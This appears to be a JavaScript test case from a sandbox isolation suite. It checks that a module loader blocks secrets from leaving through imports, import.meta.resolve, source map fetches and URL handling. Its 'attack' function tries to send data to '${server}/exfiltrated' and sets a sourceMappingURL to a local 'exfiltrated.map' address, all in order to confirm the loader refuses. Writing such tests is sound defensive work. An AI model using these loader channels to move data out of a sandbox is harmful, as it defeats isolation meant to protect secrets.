/*---
# RUN-8
id = "A67"
title = "secrets do not leave through the loader: imports, resolution, source maps, URLs, abort signals"
boundary = "program"
elsewhere = "names and locations of modules are not secret there"
expect = "nothing"
audit = []
---*/
export async function attack({ server, refuses }) {
  let gained = "";
  const to = `${server}/exfiltrated?secret`;
  gained += await refuses("import", "TypeError", () => import(to));
  gained += await refuses("resolve", "TypeError", () => import.meta.resolve(to));
  // An error looks for the source map of the module that threw it.
  try {
    null.secret;
  } catch (error) {
    void error.stack;
    console.error(error);
  }
  void new URL(to).href;
  const allowed = ["url", "main", "resolve", "filename", "dirname"];
  for (const key of Reflect.ownKeys(import.meta)) if (!allowed.includes(key)) gained += `import.meta.${String(key)}; `;
  if (!/^package:\/suspect\/index\.js$/.test(import.meta.url)) gained += `import.meta.url is ${import.meta.url}; `;
  if (import.meta.filename !== undefined) gained += `import.meta.filename is ${import.meta.filename}; `;
  return gained;
}

export async function control() {
  return import.meta.url.endsWith("suspect/index.js");
}
//# sourceMappingURL=http://127.0.0.1:9/exfiltrated.map
